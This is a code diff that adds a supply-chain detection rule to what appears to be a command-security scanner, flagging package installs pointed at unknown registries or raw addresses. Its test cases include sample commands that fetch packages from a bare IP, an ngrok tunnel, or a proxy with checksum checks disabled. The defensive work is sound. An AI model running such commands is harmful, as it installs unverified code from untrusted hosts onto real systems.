@@ -3,6 +3,7 @@ import type { CommandFact } from "../../../../../shared/domain/facts.ts";
 import { has, settingsOf, value, values } from "../../../normalise/programs/invocation.ts";
 import { severity } from "../../bands.ts";
 import { clip, firstOf, type Heuristic, onCommand, when } from "../../heuristic.ts";
+import { doubtfulSource, isKnownRegistry } from "../../known-sources.ts";
 import { isDownloader } from "../../programs.ts";
 import { wordsOf } from "../../read.ts";
 
@@ -28,7 +29,59 @@ function hasPlainAddress(command: CommandFact): boolean {
   return settingsOf(command).some((setting) => plainAddress.test(setting));
 }
 
+/** Variables by which package managers are led to another registry, or stop checking what they get. */
+const sourceVariable =
+  /^(?:GOPROXY|PIP_(?:EXTRA_)?INDEX_URL|PIP_FIND_LINKS|UV_(?:DEFAULT_)?INDEX(?:_URL)?|UV_EXTRA_INDEX_URL|npm_config_registry|NPM_CONFIG_REGISTRY|YARN_NPM_REGISTRY_SERVER|YARN_REGISTRY|CARGO_REGISTRIES_\w+_INDEX|BUNDLE_MIRROR__\w+|GEM_SOURCE|PUB_HOSTED_URL|HEX_MIRROR|COMPOSER_REPO_PACKAGIST|NUGET_SOURCE|POETRY_REPOSITORIES_\w+_URL)$/u;
+const installers = [
+  ...["pip", "pip3", "pipx", "uv", "poetry", "npm", "pnpm", "yarn", "bun", "npx", "go", "cargo", "gem", "bundle"],
+  ...["composer", "dart", "flutter", "mix", "dotnet", "mvn", "gradle", "python", "python3", "conda", "brew"],
+];
+
+function doubtfulAddress(command: CommandFact): string | undefined {
+  const variables = Object.entries(command.assignments).flatMap(([name, each]) =>
+    sourceVariable.test(name) ? each.split(/[,|\s]/u) : [],
+  );
+  const options = values(
+    command,
+    "--index-url",
+    "--extra-index-url",
+    "--find-links",
+    "--registry",
+    "--source",
+    "--index",
+    "--default-index",
+  );
+  const operands = installs(command) ? command.operands : [];
+  return [...variables, ...options, ...operands].find(
+    (address) => /^(?:\w+\+)?https?:/u.test(address) && !isKnownRegistry(address) && doubtfulSource(address),
+  );
+}
+
 export const packages: readonly Heuristic[] = [
+  {
+    id: "package-from-nowhere",
+    threat: "Untrusted package",
+    technique: "T1195.002",
+    score: severity.ask,
+    check: onCommand(installers, (command) => {
+      const address = doubtfulAddress(command);
+      return address === undefined
+        ? null
+        : `It installs packages from ${clip(address)}, which is no registry people use`;
+    }),
+    match: [
+      "GONOSUMDB=* GOPROXY=http://203.0.113.77:8443 go get ./...",
+      "pip install http://198.51.100.4/tool.whl",
+      "npm install https://x1.ngrok-free.app/p.tgz",
+      "pip install --index-url http://pypi.e.example/simple acme",
+    ],
+    not_match: [
+      "pip install --index-url https://download.pytorch.org/whl/cpu torch",
+      "npm install https://github.com/a/b/archive/main.tgz",
+      "GOPROXY=https://proxy.golang.org go get ./...",
+      "pip install -i http://localhost:3141/simple acme",
+    ],
+  },
   {
     id: "package-source-changed",
     threat: "Untrusted package",
